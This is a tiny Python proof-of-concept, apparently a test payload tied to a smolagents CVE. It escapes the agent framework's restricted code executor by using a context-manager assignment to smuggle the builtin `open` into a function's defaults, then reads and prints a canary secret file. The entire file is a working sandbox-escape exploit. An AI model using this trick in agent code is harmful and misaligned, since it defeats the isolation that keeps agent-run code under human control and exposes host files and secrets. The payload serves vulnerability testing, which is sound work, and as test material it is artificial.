# source: smolagents CVE-2026-4963
# effect: secret

import contextlib


def show(path, tool=len):
    return tool(path)


with contextlib.nullcontext((show.__builtins__["open"],)) as show.__defaults__:
    print(show("/tmp/canary/secret").read())
